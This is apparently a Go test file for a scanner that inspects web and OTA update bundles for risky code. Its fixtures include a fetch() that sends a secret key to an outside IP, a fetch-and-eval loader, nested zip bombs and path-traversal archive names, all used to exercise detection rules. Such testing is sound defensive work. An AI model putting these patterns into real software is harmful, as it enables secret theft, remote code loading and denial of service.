package scan

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/waxwing-ota/waxwing/internal/core/ota"
)

func mustRun(t testing.TB, opts Options, entries ...Entry) *Report {
	t.Helper()
	r, err := Run(context.Background(), entries, opts)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// find returns the findings of a rule.
func find(r *Report, rule string) []Finding {
	var list []Finding
	for _, f := range r.Findings {
		if f.Rule == rule {
			list = append(list, f)
		}
	}
	return list
}

func TestReportsDoNotDependOnTheOrderOfWork(t *testing.T) {
	var entries []Entry
	for _, fx := range fixtures(t) {
		for _, e := range fx.bundle {
			e.Path = fx.rule + "/" + fx.name + "/" + e.Path
			entries = append(entries, e)
		}
	}
	one := mustRun(t, Options{Workers: 1}, entries...)
	many := mustRun(t, Options{Workers: 8}, entries...)
	if d := cmp.Diff(one, many); d != "" {
		t.Error(d)
	}
	if len(one.Findings) < 200 {
		t.Errorf("%d findings", len(one.Findings))
	}
}

func TestBaselineStates(t *testing.T) {
	old := mustRun(t, Options{}, FromBytes("index.html", nil), FromBytes("assets/app-1a2B3c4D.js", []byte("eval(a);\nopen2(b);localStorage.token=1")))
	now := mustRun(t, Options{Baseline: old}, FromBytes("index.html", nil), FromBytes("assets/app-9z8Y7x6W.js", []byte("\n\n\neval(a);\nel.innerHTML = x;")))
	got := map[string]string{}
	for _, f := range now.Findings {
		got[f.Rule] = f.State
	}
	if d := cmp.Diff(map[string]string{"ST-003": StateUnchanged, "WB-010": StateNew}, got); d != "" {
		t.Error(d)
	}
	if !now.Compared || now.Gone != 1 {
		t.Errorf("compared %v, gone %d", now.Compared, now.Gone)
	}
}

func TestSecretsAreMaskedEverywhere(t *testing.T) {
	secret := "sk_" + "live_9aZx8Yw7Vb6Uc5Td4Se3Rf2Qg"
	r := mustRun(t, Options{}, FromBytes("a.js", []byte("eval('"+secret+"'+b); fetch('https://203.0.113.9/"+secret+"')")))
	if len(r.Findings) < 3 {
		t.Fatalf("%+v", r.Findings)
	}
	for _, f := range r.Findings {
		if strings.Contains(f.Snippet+f.Message, secret[8:20]) {
			t.Errorf("%s tells the secret: %q %q", f.Rule, f.Message, f.Snippet)
		}
	}
}

func TestLimits(t *testing.T) {
	small := Limits{Files: 2, Total: 100, File: 50, Script: 30, PerRule: 2}
	_, err := Run(context.Background(), []Entry{FromBytes("a", nil), FromBytes("b", nil), FromBytes("c", nil)}, Options{Limits: small})
	if ota.CodeOf(err) != "bundle_too_large" {
		t.Errorf("files: %v", err)
	}
	_, err = Run(context.Background(), []Entry{FromBytes("a", make([]byte, 101))}, Options{Limits: small})
	if ota.CodeOf(err) != "bundle_too_large" {
		t.Errorf("bytes: %v", err)
	}
	if f := find(mustRun(t, Options{Limits: small}, FromBytes("a.txt", bytes.Repeat([]byte("x"), 60))), "ST-900"); len(f) != 1 {
		t.Errorf("a large file: %+v", f)
	}
	r := mustRun(t, Options{Limits: small}, FromBytes("a.js", []byte("eval(x);eval(x);eval(x);eval(x);eval(x);")))
	if len(find(r, "ST-900")) != 1 || len(find(r, "ST-003")) != 2 {
		t.Errorf("a large script: %+v", r.Findings)
	}
	r = mustRun(t, Options{Limits: Limits{PerRule: 2, Findings: 3}}, FromBytes("a.js", []byte("eval(x);eval(x);eval(x);el.innerHTML=a;el.innerHTML=b")))
	if len(r.Findings) != 3 || r.Omitted["ST-003"] != 1 || r.Findings[0].Rule != "ST-021" {
		t.Errorf("%+v, omitted %v", r.Findings, r.Omitted)
	}
}

func TestErrors(t *testing.T) {
	if _, err := Run(context.Background(), nil, Options{Off: []string{"ST-999"}}); ota.CodeOf(err) != "rule_unknown" {
		t.Error(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Run(ctx, []Entry{FromBytes("a.js", []byte("x"))}, Options{}); !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
	broken := Entry{Path: "a", Mode: 0o644, Open: func() (io.ReadCloser, error) { return nil, errors.New("gone") }}
	if _, err := Run(context.Background(), []Entry{broken}, Options{}); ota.CodeOf(err) != "file_unreadable" {
		t.Error(err)
	}
}

func TestAFaultOfACheckIsAFinding(t *testing.T) {
	e, err := newEngine(Options{})
	if err != nil {
		t.Fatal(err)
	}
	e.dets = append(e.dets, detector{rule: "ST-001", file: func(*file) { panic("boom") }})
	en := FromBytes("a.js", []byte("eval(x)"))
	res, err := e.scanEntry(context.Background(), &en)
	if err != nil {
		t.Fatal(err)
	}
	r := e.merge([]Entry{en}, []*result{res})
	if f := find(r, "ST-900"); len(f) != 1 || !strings.Contains(f[0].Message, "boom") || len(find(r, "ST-003")) != 1 {
		t.Errorf("%+v", r.Findings)
	}
}

func TestTheTimeForAFileIsLimited(t *testing.T) {
	long := FromBytes("a.js", []byte(strings.Repeat("f(1);", 5000)))
	r := mustRun(t, Options{Limits: Limits{FileTime: time.Nanosecond}}, long, FromBytes("b.js", []byte("eval(x)")))
	if f := find(r, "ST-900"); len(f) != 1 || f[0].Path != "a.js" {
		t.Errorf("%+v", r.Findings)
	}
	if len(find(r, "ST-003")) != 1 {
		t.Error("the next file was not scanned")
	}
}

// zipOf makes a zip of one member.
func zipOf(t testing.TB, name string, data []byte) []byte {
	t.Helper()
	return archive(t, "x.zip", map[string][]byte{name: data})
}

func TestArchivesThatGrow(t *testing.T) {
	bomb := zipOf(t, "zeros", make([]byte, 4<<20))
	for range 2 {
		bomb = archive(t, "x.zip", map[string][]byte{"a.zip": bomb, "b.zip": bomb, "c.zip": bomb})
	}
	r := mustRun(t, Options{Limits: Limits{Unpacked: 8 << 20}}, FromBytes("bomb.zip", bomb))
	if f := find(r, "ST-001"); len(f) == 0 || !strings.Contains(f[0].Message, "unpacks to more") {
		t.Errorf("%+v", r.Findings)
	}
}

func TestArchivesWithManyMembers(t *testing.T) {
	members := map[string][]byte{}
	for i := range 20 {
		members[strings.Repeat("a", i+1)] = []byte("x")
	}
	r := mustRun(t, Options{Limits: Limits{Members: 5}}, FromBytes("m.zip", archive(t, "m.zip", members)), FromBytes("m2.tar", archive(t, "m.tar", members)))
	if f := find(r, "ST-001"); len(f) != 2 {
		t.Errorf("%+v", f)
	}
}

func TestEncryptedMembersBlock(t *testing.T) {
	z := zipOf(t, "secret.bin", []byte("x"))
	for _, sig := range []struct {
		mark string
		at   int
	}{{"PK\x03\x04", 6}, {"PK\x01\x02", 8}} {
		z[bytes.Index(z, []byte(sig.mark))+sig.at] |= 1
	}
	if f := find(mustRun(t, Options{}, FromBytes("a.zip", z)), "ST-001"); len(f) != 1 || f[0].Severity != Block {
		t.Errorf("%+v", f)
	}
}

func TestSources(t *testing.T) {
	list, err := FromFS(fstest.MapFS{"index.html": {Data: []byte("x")}, "a/b.js": {Data: []byte("eval(x)")}})
	if err != nil || len(list) != 2 {
		t.Fatal(list, err)
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range []string{"index.html", "dir/", "../up.js", "../up.js"} {
		if _, err := w.Create(n); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil && !errors.Is(err, zip.ErrInsecurePath) {
		t.Fatal(err)
	}
	r := mustRun(t, Options{}, FromZip(z)...)
	if len(r.Files) != 3 || len(find(r, "ST-021")) != 3 { // both names, and that there are two
		t.Errorf("%+v", find(r, "ST-021"))
	}
}

func TestHostileScripts(t *testing.T) {
	n := 1 << 20
	for _, unit := range []string{"!", "(", "a=>", "a+", "`${", "if(a)", "a?b:", "{", "<div>", "\"", "/*", "\\u0061", "eval(", "'a'+"} {
		entries := []Entry{
			FromBytes("a.js", []byte(strings.Repeat(unit, n/len(unit)))),
			FromBytes("a.html", []byte("<script>"+strings.Repeat(unit, n/len(unit)))),
			FromBytes("b.html", []byte(strings.Repeat("<p onclick='"+unit+"'>", 2000))),
			FromBytes("a.css", []byte(strings.Repeat(unit, n/len(unit)))),
			FromBytes("a.json", []byte(strings.Repeat(unit, n/len(unit)))),
		}
		for _, f := range mustRun(t, Options{}, entries...).Findings {
			if strings.Contains(f.Message, "gave up") || strings.Contains(f.Message, "longer than") {
				t.Errorf("%q: %s: %s", unit, f.Path, f.Message)
			}
		}
	}
}

func FuzzRun(f *testing.F) {
	for _, s := range []struct{ name, text string }{
		{"a.js", "eval(await (await fetch('x')).text())"},
		{"index.html", "<script src=//a.b/c></script><iframe srcdoc='<p onclick=eval(a)>'>"},
		{"b.js", "import{r as e}from\"./b.js\";var x=e(\"Camera\",{});const c=a.registerPlugin;export{c as r}"},
		{"a.css", "@import url(//a.example.org/b)"},
		{"a.json", `{"a":"https://pastebin.com/x"}`},
		{"capacitor.config.json", `{"server":{"url":"http://x"}}`},
		{"a.zip", string(zipOf(f, "b.js", []byte("eval(x)")))},
		{"a.tar", string(archive(f, "a.tar", map[string][]byte{"x": []byte("\x7fELF")}))},
		{"a.gz", string(archive(f, "a.gz", map[string][]byte{"x": []byte("\x7fELF")}))},
		{"a.map", `{"sourcesContent":[]}`},
		{"../a\x00", "\xff\xfe"},
	} {
		f.Add(s.name, []byte(s.text))
	}
	base := mustRun(f, Options{}, FromBytes("index.html", nil))
	e, err := newEngine(Options{Baseline: base, Native: &Native{Plugins: []string{}}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		r, err := e.run(context.Background(), []Entry{FromBytes(name, data)})
		if err != nil {
			t.Fatal(err)
		}
		for _, fd := range r.Findings {
			if strings.Contains(fd.Message, "gave up") {
				t.Fatalf("%q: %s", name, fd.Message)
			}
			if fd.Line > 0 && (fd.Offset < 0 || fd.Offset > len(data) && !strings.Contains(fd.Path, "!/")) || fd.Severity.Rank() == 0 || fd.Fingerprint == "" {
				t.Fatalf("%+v", fd)
			}
		}
	})
}

func FuzzSketch(f *testing.F) {
	text, err := newSketch([]uint64{3, 1, 2}).MarshalText()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(text)
	f.Add([]byte("AAAA"))
	f.Fuzz(func(t *testing.T, text []byte) {
		var s Sketch
		if s.UnmarshalText(text) != nil {
			return
		}
		if share := s.NewShare(s); len(s) > sketchSize || share != 0 {
			t.Fatalf("%d hashes, %v of them new", len(s), share)
		}
	})
}
